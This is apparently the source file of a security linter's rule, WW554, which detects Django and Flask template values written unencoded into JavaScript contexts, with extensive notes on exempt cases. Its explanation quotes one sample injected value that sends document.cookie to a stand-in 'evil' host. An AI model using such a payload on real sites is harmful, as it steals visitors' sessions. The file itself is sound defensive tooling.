"""WW554: template values written into JavaScript without a JavaScript-safe encoding."""

from __future__ import annotations

import dataclasses
import itertools
from collections.abc import Iterator

from webwarden.findings import Confidence, Finding, Practice, Severity
from webwarden.model.project import ProjectModel
from webwarden.model.templates.escalation import (
    counted_by_filter,
    encoded_for_script,
    output_paths,
    url_encodings,
)
from webwarden.parse.templates import Dialect, ParsedTemplate
from webwarden.parse.templates.html import Placement
from webwarden.parse.templates.nodes import Expression, Node
from webwarden.rules.base import ONLY_WHEN_FED, Framework, TemplateRule
from webwarden.rules.xss._branch_tests import pinned_to_literal
from webwarden.rules.xss._inert_names import Spans, inert_at, language_bindings
from webwarden.rules.xss._marked_output import marking_at, shown_use
from webwarden.rules.xss._number_settings import number_settings
from webwarden.rules.xss._script import (
    app_config_value,
    bound_to_app_url,
    is_kept_key,
    is_measure,
    javascript_kind,
    script_problem,
    without_literal_defaults,
)
from webwarden.rules.xss._template import by_dialect, calls_macro, outputs, shown, translated
from webwarden.rules.xss._template_literal import literal_escaped

_STRING_QUOTES = ("'", '"', "`")
_SCRIPT_BLOCK = "a `<script>` block"
_STRING = "in-script-string"
_DECODED_URL_STRING = "in-javascript-url-string"
"""Tags of a finding written inside a quoted JavaScript string (of a `javascript:` URL)."""
_ATTRIBUTE_CODE = "in-attribute-code"
"""Tag of a finding that is a Django variable alone, autoescaped into the code of a quoted
attribute a script runs (`:providers="{{ providers }}"`), outside any string literal."""


def _percent_encoded_string(finding: Finding, encodings: int) -> bool:
    """Written inside a quoted string through filters of the project that percent-encode
    it: once, or in a `javascript:` URL, which the browser percent-decodes once before
    it runs, twice. Percent escapes hold no quote, backslash, backtick or `$`."""
    if _DECODED_URL_STRING in finding.tags:
        return encodings >= 2
    return _STRING in finding.tags and encodings >= 1


_URL_FIX = (
    "pass the value through a `data-` attribute that a click handler reads, not a"
    " `javascript:` URL (which is percent-decoded before it runs)"
)


class TemplateVariableInScript(TemplateRule):
    """## What it does
    Finds template values written where the browser runs them as JavaScript: inside a
    `<script>` block outside a quoted string (or inside a `` `template literal` ``, or
    inside a quoted string that another value follows on the same line inside a string
    of the same quote, `load('{{ vendor }}', '{{ product }}')`: HTML escaping leaves the
    backslash, so one ending the first value escapes its closing quote, and the second
    value, a number or a URL Flask builds aside, runs as code),
    in an inline event handler (`onclick="..."`) or an attribute a script library runs
    as JavaScript (htmx's `hx-on:htmx:load`, Alpine.js's `x-data`, `x-init`,
    `x-on:click`, `:href`, Vue's `v-on:click`, `@click`), or after `javascript:` in a URL,
    without a JavaScript-safe encoding: `|tojson` in Jinja2, `json_script` in Django
    (or `escapejs` or URL encoding, `|urlencode` or a query's `.urlencode`, inside a
    quoted string; URL encoding in a template literal too, as it encodes `$`, `{` and
    the backtick; so does Django's `|slugify`, which keeps only ASCII letters, digits,
    `-` and `_`). In a `javascript:` URL, which the browser percent-decodes before it
    runs the script, neither JSON, `escapejs` nor a single URL encoding is enough: `%27`
    in the value, or the one `|urlencode` wrote, turns back into a quote; URL encoding
    twice (`|urlencode|urlencode`) decodes once into escapes that stay inside a quoted
    string. Jinja2's `tojson` inside a double-quoted
    attribute is reported too: its output keeps `"`. A literal given to filters
    (`{{ True|yesno:"on,off" }}`) is not data and is not reported, nor is a list, tuple
    or dict the template writes of constants (`{{ [48.85, 2.35] }}`), nor Django's
    `|pluralize` written last with no argument or a literal one (`item{{
    rows|pluralize }}` in a `confirm('...')`): it writes `s`, or a suffix of that
    literal, or nothing, never the value it counts. Nor is what Django's i18n tags bind
    to language data (`{% get_available_languages as languages %}`, then `{% for
    lang_code, name in languages %}` ... `change_lang('{{ lang_code }}')`; `{%
    get_current_language as LANGUAGE_CODE %}`): the `LANGUAGES` setting's codes and
    names or Django's own table of languages, unless the template binds the name
    another way too.

    ## Why is this bad?
    Autoescaping escapes HTML, not JavaScript. `var n = {{ count }};` runs
    `1; fetch('//evil/?'+document.cookie)` if that is what `count` holds, and in
    `onclick="show('{{ name }}')"` the browser turns `&#x27;` back into `'` before the
    handler runs, so a name can close the string and add code; htmx, Alpine.js and Vue
    read their attributes after the browser decoded them too.

    ## Known problems
    A value that is always a number or a boolean is harmless; add `|int` (or
    `|tojson`) to say so. Keys the database makes (`{{ event.id }}`, `{{ obj.pk }}`,
    `{{ category_id }}`, a UUID field's `{{ obj.uuid }}` or `{{ flow_uuid }}`, or one of
    them or a constant: `{{ page.id if page else "null" }}`, Django's `{{
    plan.parent.pk|default:'null' }}`), a Jinja subtraction,
    division or power (`{{ k.month - 1 }}`, `{{ done / total }}`, `{{ -offset }}`: a
    number, as text has no such operator; `+`, `*` or `%`, which join, repeat or
    format text, only when every operand is a number literal or ends with a filter
    giving a number, `{{ minutes|int * 60 }}`; and not one written through a filter),
    values named as numbers the app computes (`{{ month.epoch }}`,
    `{{ stats.open_count }}`, `{{ progress_percent }}`, also written out for the
    reader's locale: `{{ stats.open_count_formatted }}`, the parts of a date or time as
    Python names them, `{{ k.day }}`, `{{ t.hour }}`, Django's `{{
    page.paginator.num_pages }}`, also through `|unlocalize` or a literal default: `{{
    formset.max_num|unlocalize }}`, and a method so named that Jinja calls with no
    argument, `{{ page.next_page_number() }}`, as a Django template calls `{{
    page.next_page_number }}` by itself), an attribute every class of the
    project defining one of that name declares as a number model field (`{{
    settings.default_deposit }}`, `default_deposit = models.IntegerField()`, or a field
    class of the project deriving from one that converts no value, `fine =
    PaymentAmountField()` after `class PaymentAmountField(models.DecimalField)` setting
    only `__init__`'s defaults, in any module; also through
    a `{% with %}` name, or one `{% blocktranslate %}` binds for its text, `{% blocktrans
    trimmed with costs=event.fine %}`, or as the value of a name the project's context processors
    alone give, `{{ site_id }}` after `return {"site_id": config.site_id}`; `DecimalField`, `FloatField`, `BooleanField` alike; a
    `SlugField` or `UUIDField` too, `{{ project.slug }}`: one word; or a class
    constant, `STATUS_DRAFT = "D"`, `MAX_TEAMS = 4`: a number, a boolean or one word
    the class body binds, which every instance reads unless the module's code rebinds
    the name on an object, `self.STATUS_DRAFT = ...`; or as a
    method or property returning only counts, sizes and tests: `return
    self.voter_set.count()`, also through another such method of its class (`return
    self.balance_on(date.today())`); GeoDjango's models module, `from django.contrib.gis.db
    import models`, gives Django's fields), the `x`, `y` or `z` of one every class
    defining it declares a GeoDjango `PointField` (`lat: {{ office.location.y }}`, a
    float), values every view rendering the
    template passes as a number, a boolean or a string literal of plain words (also an
    attribute of an object it holds that every class of the project defining it declares
    a number or boolean field, `"restricted": member.restricted`; also as
    items a method of the view's class sets on the context dict it is handed: `context =
    self.get_context_stats(context)`)
    (`render_template("queue.html", target=1)`, `kind="tasks"`,
    `count=len(items)`, `conf.getint(...)`, a count or a test of existence:
    `debates.count()`, `rows.exists()`, a count Django's `Paginator` keeps (`"last":
    paginator.num_pages`, `paginator.count`, the `number` of the page its `page()`
    gives), the value of a Django aggregate that counts or
    sums, `totals["hours"]` of `qs.aggregate(hours=Sum("effort"))` or `rows[0]["n"]` of
    `qs.values("day").annotate(n=Count("id"))`, a loop variable a SQLAlchemy query's
    rows bind at the position `func.count`, `func.sum` or `func.avg` fills (`for day, n
    in db.session.query(PageView.day, func.count(PageView.id))`, also of
    `session.execute(select(...))`; not `func.max`, the column's own value), a Django URL parameter itself (a
    function view's parameter, or a class-based view's `self.kwargs["slug"]`) that
    every route converts to a word (`<slug:board>`, `<int:year>`, a `re_path` group of
    word characters) or to one of the values its URLconf lists (`r"^(?P<state>{})/$"
    .format("|".join(codes))`: the app's own text), or, inside a quoted string or
    template literal, one every route matches with a class of letters, digits, `.`, `-`
    and `_` (`(?P<image_id>[\\w.-]+)`: text there, though `.` and `-` would be code
    outside a string), a constant a module of the project binds once
    to one (`GOAL = 500`, also imported: `from stats.constants import GOAL`), an item the function set to one on its own dict before reading it back
    (`context["done"] = qs.count()`, then `max(context["done"] - GOAL, 0)`), a date's
    `isoformat()`, a comprehension each item of which is one whatever it loops over
    (`[qs.filter(week=w).count() for w in weeks]`), an item, `.get(key, 0)` or
    `list(d.values())` of a local dict the function only reads and sets to such values,
    or to its own values joined with such (`by_day = defaultdict(int)` stepped with
    `by_day[day] += 1`, `by_day[day] = by_day.get(day, 0) + n`, `{w: int(n) for w, n in
    rows}`, a `Counter` of a list: `Counter([a.name for a in authors])`; or what a
    function of the project returns, in any module, every `return` of which gives a
    display of such values or its one `return` such a local dict: `counts =
    zero_levels()` after `return {"high": 0, "low": 0}`, then `counts[row.level] += 1`),
    also a value of
    such a dict the view hands the template whole (also as such a function's result,
    `"tallied": tally(rows)`), as a loop over its `items()` or
    `values()` binds it, or an item of it (`{% for day, n in by_day.items() %}` then
    `{{ n }}`, `{{ v[0] }}` of `dict((k, [created.get(k, 0), 1]) for k in keys)`; not
    the key `day`, which may be the visitor's text), or one key the template names
    (`{{ tallied.high }}`; not a method of the dict, `{{ tallied.keys }}`), a list or tuple of such values, also a local list every `append`,
    `insert`, `extend` and item set of which adds one (`opened = []`, then
    `opened.append(0)`), or one of two such a condition chooses:
    `1 if allowed else 0`, or such values joined by arithmetic or chosen by `max`, `min`
    or `abs`: `round(100 * won.count() / leads.count(), 1)`, or `sum()` of an iterable
    alone, which adds from 0 (`sum(u.project_count for u in users)`); or a call of a function of
    the project, in any module, every `return` of which gives such a value, judged as
    a view's own (`stats.open_tickets(board_id)` returning `int(...)` or `0`, or what
    other such functions count), or a key of the dict such a function builds and
    returns that it sets only to such values (`{{ paging.start }}` after `paging =
    paging_from(request)`, which sets `paging["start"] = int(request.args.get("start",
    0))` beside request text under other keys; not when that function changes the dict
    otherwise, `paging.update(request.args)`, or hands it to a call, nor when the view
    does more than set keys of its own on it); or a local every assignment
    of which, and every loop binding it over a tuple, a list or a `range()`, gives one:
    `top = 0`, then `top = max(rate, top)` in `for days in (30, 365)`; or a local set to
    one that a setting may replace: `threshold = 3.0`, then `threshold =
    settings.CHANGE_THRESHOLD`, or Django's setting read with such a default, `getattr(
    settings, "CLEANUP_AFTER_DAYS", 14)`; or a Django setting passed whole (`"limit":
    settings.PAGE_SIZE`, `getattr(settings, "PAGE_SIZE")`) that every settings module
    setting it binds to a number or a boolean, also as the default of a helper of the
    settings module reading the environment first (`set_option("PAGE_SIZE", 25)`); or a total that starts as a number literal and that a
    loop only steps with `+=`, `-=`, `/=`, `//=` or `**=`, whatever it adds: `spent =
    0`, then `spent += split.amount`, which gives a number or raises) or as JSON encoded for a script
    (`htmlsafe_json_dumps(...)`, which escapes `<`, `>`, `&` and `'`, or `json.dumps(...)`
    with `<`, `>` and `&` translated to escapes, as Django's `json_script` does), values of Flask's app config
    (`{{ config.SITE_NAME }}`, `{{ current_app.config["UPLOAD_DIR"] }}`: set by whoever
    runs the app; these and keys the database made also behind a `default` given only
    literals, `{{ config.TIMEOUT|default(298) }}`, `{{ record.id|default(0) }}`) and the `{{ STATIC_URL }}` and `{{ MEDIA_URL }}` settings Django's
    context processors add, Jinja globals and Django context processors' names the project sets
    to configuration and no view passes but as configuration too (`{"settings": settings}`;
    django-settings-export's `{{ settings.MAP_CENTER }}`, the settings its
    `SETTINGS_EXPORT` lists;
    `{{ HORIZON_CONFIG.ajax_queue_limit }}` from
    `return {"HORIZON_CONFIG": conf.HORIZON_CONFIG}`, in a `context_processors` module or
    any module whose function a `TEMPLATES` setting lists, as WW550 judges them; a key
    of a dict a processor returns whose value there is configuration, `{{
    analytics.api_key }}` after `return {"analytics": {"api_key": settings.ANALYTICS_KEY,
    "uid": ...}}`, also as every `{% include ... with key=analytics.api_key %}` of the
    template hands it on; the names of django-jinja's `constants` option in a settings module, `{{
    constants.DEFAULT_CYCLE }}` after `"constants": {"constants": constants}`),
    attributes the project sets on Flask's `g` (or a middleware on Django's request) only
    ever to values its code wrote or to Flask-Babel's locale (`g.locale =
    str(get_locale())`: Babel's identifier, `en` or `pt_BR`, as WW550 judges them), or
    to any value a later test of the same block keeps to a collection the code wrote
    (`g.lang = session["lang"]`, then `if g.lang not in LANGUAGES.keys():` that raises,
    aborts, or returns from a `before_request` hook, with no `return` between),
    `url_for()` with constant arguments or such keys (a URL of
    the app's own routes; also a name every `{% set %}` of the template binds to one, `{%
    set detail_url = url_for('build_detail', build_id=entry.id) %}`, that nothing else
    binds; so is a name every tag binding it is Django's `{% static "img/raty/" as path
    %}`, a static file's URL, or its `{% url "admin:shop_order_change" original.pk as
    change_url %}`, a route name the author wrote with constant arguments or such keys), or with any arguments inside a JavaScript string in double
    quotes or backticks (Werkzeug percent-encodes `"`, `\\`, the backtick and `{` in
    what it builds; not inside a single-quoted one, as it leaves `'` in the query) or in
    a `//` line comment (a line break, which ends it, is percent-encoded too), the framework's CSRF token (Flask-WTF's `csrf_token()`,
    Django's `csrf_token`, a WTForms form's `form.csrf_token.current_token` or its
    `_value()`, not its posted `data`: letters, digits and URL-safe marks), the page's CSP
    nonce (django-csp's `request.csp_nonce` or `CSP_NONCE`, Flask-Talisman's `csp_nonce()`:
    random base64), a Django form field's
    generated id or name (`{{ form.email.id_for_label }}`, a loop's `field.html_name`,
    `auto_id`, or the field's `name` read from a name ending in `form`, `{{
    form.email.name }}`: the form's prefix and the field's name, whatever data the form
    was bound to; not a key of what was posted, `form.data.id_for_label`, nor
    `form.instance.name`; also that name as a widget of the project is given it and hands
    it to a template it renders, Django calling its `get_context(name, value, attrs)` or
    `render(name, ...)` with the field's HTML name: `render_to_string("colour_js.html",
    {"js_name": name.replace("-", "_")})`, also in a method of the widget that every call
    in the class hands that name; not the widget's `value`, what the form was bound to), the user's flags that
    Django's user models and Flask-Login define as booleans
    (`{{ request.user.is_authenticated }}`, `{{ current_user.is_anonymous }}`,
    `{{ user.is_staff }}`, also through filters that only change the case of the word or
    write it as JSON: `{{ user.is_authenticated|lower }}`, `{{ user.is_staff|to_json }}`
    with a filter of the project named for JSON), what Django's `i18n` context processor sets in a Django
    template (`{{ LANGUAGE_CODE }}`, a code of `settings.LANGUAGES`, which is all
    `LocaleMiddleware` activates, and the flag `{{ LANGUAGE_BIDI }}`), Django's
    `{{ request.get_host }}` inside a quoted string or template literal (Django refuses
    any host but letters, digits, dots, dashes and a port), a variable written inside the
    branch of an `if` that requires it to equal a literal (`{% if message.tags ==
    "success" %}` then `toastr.{{ message.tags }}(...)`: the output is the literal the
    author wrote), the loop's own counters
    (`{{ forloop.counter0 }}`, Jinja's `{{ loop.index }}`), the variable of a Jinja loop
    over `range(...)` (`{% for i in range(1, count + 1) %}` then `{{ i }}`) or over a list
    or tuple the tag writes of plain words and numbers (`{% for attr in ['username',
    'email'] %}` then `User.{{ attr }} = ...`) or over what a filter of the project
    returns, every definition of which returns whole numbers (`{% for i in
    page.paginator|window:page.number %}`, the filter returning `paginator.page_range`
    or a slice of `[n for n in range(a, b)]`), unless a `set`
    or `with` of the template binds the name too, a name every `set` of the template
    binds to a value given last to a filter making a number (`{% set long =
    place.coordinates.longitude|float %}`, `|int`, `|round(1)`, `|length`; not `a ~
    b|float`, where the filter takes `b` alone), written alone or with a `default`
    reading nothing else (`{{ long|default(0) }}`), and the translation of a
    literal message given nothing else
    (`{{ _('Delete?') }}`, `{% translate "Delete?" as message %}`) are taken as such and
    not reported, unless a view passes request data for the key (`item_id=request.args
    ["item"]`); an object a call webwarden does not model returns from request data
    (`labels = store.labels_for(digest)`) does not count for its keys and numbers
    (`{{ label.id }}`): they are the object's own. A Flask view's URL parameter that an `int`, `float` or `uuid` converter
    makes does not count as request data fed to the template, nor does what a Django
    view reads that answers only its page's script (see WW550): such a finding stays at
    the rule's own severity. A class-based view's
    context holds what the `get_context_data` of each base class of the project adds,
    in any module (an edit view deriving from an admin's `CreateOrUpdateView` of another
    module, which adds a query parameter). A REST framework
    `APIView` with a `template_name` (drawn by `TemplateHTMLRenderer`) hands its template
    the data of the `Response` its handlers return and the context processors' names
    only, as Django's `render()` does: a name it does not pass is written as nothing.
    Nor is a parameter of a
    Jinja macro to which every call of the macro in the project's templates gives a
    literal or leaves a literal default (`{% macro details(prefix="") %}` writing
    `` `body {{ prefix }} a` ``, called as `lib.details(".modal")`), nor a name of a
    Django template that every `{% include %}` of it hands the includer's own literal
    (`{% include "datatables.html" with sort=3 %}`, `sort_list="[7, 'desc']"`) and no
    view renders itself (as WW550 judges them). Nor is a
    value a Jinja template escapes for a template literal itself, with `replace` filters
    that double backslashes first and then escape the backtick and `${` (on the output,
    or on the `{% set %}` that binds the name it writes): HTML escaping does the rest; nor,
    inside a `'` or `"` string, one whose filters double backslashes first and then escape
    that quote, none after writing a backslash or the quote back (`'{{ table.name |
    replace("\\\\","\\\\\\\\") | replace("'","\\\\'") }}'` in an `onclick`).
    Nor is a value inside a quoted string written last through a filter the project
    defines that percent-encodes it (every `return` gives `urllib.parse.quote_plus(text)`
    or `quote(text)`, perhaps lower-cased, keeping no character as it is), twice in a
    `javascript:` URL (`{{ product|htmlEncode|htmlEncode }}`, or the project's filter
    then Jinja's `urlencode`).
    Nor is a value written last through a filter the project defines that encodes
    it for JavaScript: every `return` gives the filter's own text with each value it
    writes passed through Django's `escapejs` inside a single- or double-quoted string
    (`mark_safe('JSON.parse("%s")' % escapejs(json.dumps(value)))`), JSON with `<`,
    `>` and `&` escaped (also by Bleach's `clean()` with its default options,
    `mark_safe(bleach.clean(json.dumps(data)))`, which escapes them outside a few
    formatting tags and drops comments: nothing can end the block), or only the
    filter's own literals and numbers it formatted
    (`return "true" if value else "false"`, `return "%.2f" % value`).
    Nor is JSON every view rendering a Django template encodes itself (`"columns":
    json.dumps(columns)`, not marked safe) written alone into a quoted attribute a
    script runs, outside a string (`:columns="{{ columns }}"`, `onclick="show({{ columns
    }})"`): autoescaped, its quotes cannot end the attribute, and the browser decodes it
    back into a JavaScript literal (not inside a quoted string, which its quotes end, nor
    in a `<script>` block, which `</script>` in it ends).
    Values in `<script type="application/json">` and other non-executable
    scripts are not reported. Nor is the block of the template extended (`{{
    block.super }}`, Jinja's `{{ super() }}`): the parent's own script, judged there.
    Nor is a call of a Jinja macro the template defines or
    imports (`{{ widgetscripts(form) }}`): it writes the macro's markup, whose values
    are judged where the macro's template writes them.

    This rule supersedes WW552 (`template-filter-marks-input-safe`) at the same output:
    a filter of the project that marks its input safe unescaped (`{{ conf|json }}`, its
    `json` returning `mark_safe(json.dumps(value))`) writing into JavaScript is reported
    once, here, as escaping the input for HTML, WW552's fix, would not make it safe
    there; JSON with `<`, `>` and `&` escaped (`json_script`, `|tojson`) would. When
    such a filter is the output's last, the message names it and where it marks its
    input safe.

    ## Example
    ```html
    <script>
      const user = {{ username }};
    </script>
    ```

    ## Fix
    ```html
    <script>
      const user = {{ username|tojson }};
    </script>
    ```

    ## References
    - [CWE-79: Cross-site Scripting](https://cwe.mitre.org/data/definitions/79.html)
    - [Flask: standard filters, tojson](https://flask.palletsprojects.com/en/stable/templating/#standard-filters)
    - [Django: json_script](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#json-script)
    - [OWASP: XSS prevention, JavaScript contexts](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html)
    """

    code = "WW554"
    name = "template-variable-in-script"
    practice = Practice.XSS
    severity = Severity.MEDIUM
    confidence = Confidence.MEDIUM
    cwe = 79
    message = "`{{{{ {value} }}}}` is written into {where}: {problem}"
    fix = "{fix}"
    frameworks = frozenset({Framework.DJANGO, Framework.FLASK})
    escalates = True
    supersedes = ("WW552",)

    def check_template(self, template: ParsedTemplate) -> Iterator[Finding]:
        if not template.is_html:
            return
        fix = by_dialect(
            template,
            "encode the value with `|tojson` (in single-quoted attributes), or pass data through a `data-` attribute",
            'pass the value with `{{ value|json_script:"id" }}` and read it with `JSON.parse`, or use `|escapejs` inside a quoted string',
        )
        messages = translated(template)
        languages: Spans | None = None
        followers = _string_followers(template)
        for node, expression in outputs(template):
            if node.start in template.escape_off:
                continue  # NOTE: WW551 reports every value of an autoescape-off block
            if expression.path in messages and not expression.calls:
                continue
            if calls_macro(template, expression):
                continue  # NOTE: the macro's own template is judged where it writes values
            if node.start in template.counters:
                continue  # NOTE: `{% for i in range(n) %}`: `i` is a whole number
            if bound_to_app_url(template, node):
                continue
            if template.dialect is Dialect.DJANGO and expression.names and not expression.calls:
                if languages is None:
                    languages = language_bindings(template)
                here = inert_at(languages, node.start)
                if all(name.split(".")[0] in here for name in expression.names):
                    continue  # NOTE: Django's table of languages or the `LANGUAGES` setting
            if expression.names == (expression.path,) and pinned_to_literal(
                template, node, expression.path
            ):
                continue  # NOTE: `{% if tags == "success" %}`: the output is that literal
            placement = template.placement(node)
            kind = javascript_kind(template, placement)
            if not kind:
                continue
            problem = script_problem(
                template,
                expression,
                placement,
                kind,
                trust_keys=False,
                runs_next=followers.get(node.start, ""),
            )
            if not problem:
                continue
            quote = placement.js_string
            if (
                quote in _STRING_QUOTES
                and node.start not in template.escape_off
                and literal_escaped(template, node, expression, quote)
            ):
                continue  # NOTE: backslash and the string's quote (`${`) escaped by hand
            # NOTE: a value named like a database key (`item_id`) is a number the database
            # made, one named like a measure (`month.epoch`, `open_count`) a number the app
            # computed, and the app's config is the operator's, unless a view feeds it
            # request data: reported only then.
            bare = without_literal_defaults(expression)
            keyed = (
                is_measure(expression)
                or is_kept_key(expression)
                or (bare is not None and (is_kept_key(bare) or app_config_value(template, bare)))
            )
            where = {
                "script": _SCRIPT_BLOCK,
                "handler": _handler(placement),
                "url": f"a `javascript:` URL in `{placement.attribute}`",
            }[kind]
            finding = self.at(
                template,
                node,
                value=shown(expression),
                where=where,
                problem=problem,
                fix=_URL_FIX if kind == "url" else fix,
            )
            tags: tuple[str, ...] = (ONLY_WHEN_FED,) if keyed else ()
            if placement.js_string in _STRING_QUOTES:
                tags += (_DECODED_URL_STRING if kind == "url" else _STRING,)
            elif _attribute_code(template, expression, placement, kind):
                tags += (_ATTRIBUTE_CODE,)
            yield dataclasses.replace(finding, tags=tags) if tags else finding

    @classmethod
    def refuted(cls, finding: Finding, project: ProjectModel) -> bool:
        """Every view rendering the template passes the value as a number, a boolean or a
        plain word (`render_template("queue.html", target=1)`, `kind="tasks"`): nothing in
        it can end a string or start code. Or a filter of the project encodes it for
        JavaScript last. Or the value is a global the project sets to its configuration: the
        operator's, not a visitor's; or a setting the settings modules bind to a number. Or it is an attribute every model of the project
        declares as a number field. Or every `{% include %}` of the template hands it the
        includer's own literal: code the author wrote."""
        model, where = project.templates, finding.location
        if model is None:
            return False
        if encoded_for_script(model, where) or counted_by_filter(model, where):
            return True
        if _percent_encoded_string(finding, url_encodings(model, where)):
            return True
        paths = output_paths(model, where.path, where.line, where.column)
        json_code = _ATTRIBUTE_CODE in finding.tags
        in_string = _STRING in finding.tags
        return bool(paths) and all(
            model.inert(where.path, path)
            or (in_string and model.quoted_inert(where.path, path))
            or (json_code and model.json_text(where.path, path))
            or model.number_attribute(where.path, path)
            or number_settings(project, model.passed_settings(where.path, path))
            or model.configuration_global(where.path, path)
            or model.configured_by_includers(where.path, path)
            or model.literal_argument(where.path, where.line, path)
            or model.authored_by_includers(where.path, path)
            or model.code_written_request_attribute(where.path, path)
            for path in paths
        )

    @classmethod
    def reassessed(cls, finding: Finding, project: ProjectModel) -> Finding:
        """The finding saying what is marked when the output's last filter is one of the
        project's that returns its input marked safe unescaped (`{{ conf|as_json }}`,
        `as_json` returning `mark_safe(json.dumps(value))`): not HTML escaping, but
        nothing at all, stands between the value and the script."""
        model = project.templates
        marking = marking_at(model, finding.location) if model is not None else None
        if marking is None:
            return finding
        use, definition = marking
        value, _, rest = finding.message.partition("` is written into ")
        where = rest.partition(": ")[0]
        ends = (
            "`</script>` in it ends the block"
            if where == _SCRIPT_BLOCK
            else "a quote in it ends the attribute"
        )
        problem = (
            f"`{shown_use(use)}` returns it marked safe unescaped (`{definition.marker}` in"
            f" `{definition.location.path}`): {ends}"
        )
        return dataclasses.replace(finding, message=f"{value}` is written into {where}: {problem}")


def _attribute_code(
    template: ParsedTemplate, expression: Expression, placement: Placement, kind: str
) -> bool:
    """A Django variable written alone, unfiltered (so autoescaped), into a quoted attribute
    a script runs, outside a string or comment: JSON the view encoded is decoded back by
    the browser into a JavaScript literal there, and its quotes cannot end the attribute."""
    return (
        template.dialect is Dialect.DJANGO
        and kind == "handler"
        and placement.quote in ('"', "'")
        and not placement.js_string
        and not placement.js_comment
        and not expression.filters
        and not expression.calls
        and expression.names == (expression.path,)
        and expression.text.strip() == expression.path
    )


def _string_followers(template: ParsedTemplate) -> dict[int, str]:
    """For an output written inside a quoted string of a `<script>` block, the next output
    when it follows on the same line inside a string of the same quote and would be a
    problem written as code (`load('{{ vendor }}', '{{ product }}')`), keyed by the
    first's start: HTML escaping leaves the backslash, so a value ending in one escapes
    its closing quote, the string then closes where the second's opened, and the second
    value is code. Not across the end of the `<script>` block, which ends the string too,
    nor two values of one string (`'{{ scheme }}://{{ host }}'`): the backslash escapes
    the author's text after it, no quote."""
    placed: list[tuple[Node, Expression, Placement]] = []
    for node, expression in outputs(template):
        placement = template.placement(node)
        if node.start in template.escape_off or placement.js_string not in ("'", '"'):
            continue
        if javascript_kind(template, placement) == "script":
            placed.append((node, expression, placement))
    followers: dict[int, str] = {}
    for (node, _, placement), (after, expression, later) in itertools.pairwise(placed):
        between = template.text[node.end : after.start]
        if later.js_string != placement.js_string or "\n" in between:
            continue
        if _unescaped(between, placement.js_string) < 2:
            continue  # NOTE: one string holds both (`'{{ scheme }}://{{ host }}'`)
        if "</script" in between.lower():
            continue  # NOTE: the block ends first: an unclosed string there is only an error
        as_code = dataclasses.replace(later, js_string="")
        if script_problem(template, expression, as_code, "script", trust_keys=False):
            followers[node.start] = shown(expression)
    return followers


def _unescaped(text: str, quote: str) -> int:
    """How many times `quote` appears in `text` not escaped by a backslash."""
    count, escaped = 0, False
    for char in text:
        if escaped:
            escaped = False
        elif char == "\\":
            escaped = True
        elif char == quote:
            count += 1
    return count


def _handler(placement: Placement) -> str:
    """`the `onclick` event handler`, or the attribute and the library running it."""
    runner = placement.script_runner
    if runner == "the browser":
        return f"the `{placement.attribute}` event handler"
    return f"the `{placement.attribute}` attribute, which {runner} runs as JavaScript"
